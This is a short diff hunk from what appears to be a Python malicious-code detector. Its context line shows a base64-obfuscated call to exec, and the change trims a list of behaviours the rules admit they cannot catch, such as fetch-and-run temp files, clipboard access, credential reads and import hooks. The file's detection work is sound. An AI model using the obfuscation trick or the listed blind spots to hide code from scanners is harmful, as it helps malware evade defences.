@@ -727,11 +727,4 @@ getattr(builtins,base64.b64decode(b'ZXhlYw==').decode())(base64.b64decode(b'eA==
 }
 
 # What no rule finds, as good code does the same: it is the purpose that is bad.
-GAPS = (
-    "a temporary file that fetches and runs",
-    "the clipboard",
-    "credentials by a parser of settings",
-    "run by a callback",
-    "a hook of imports",
-    "an installation",
-)
+GAPS = ("run by a callback", "a hook of imports")
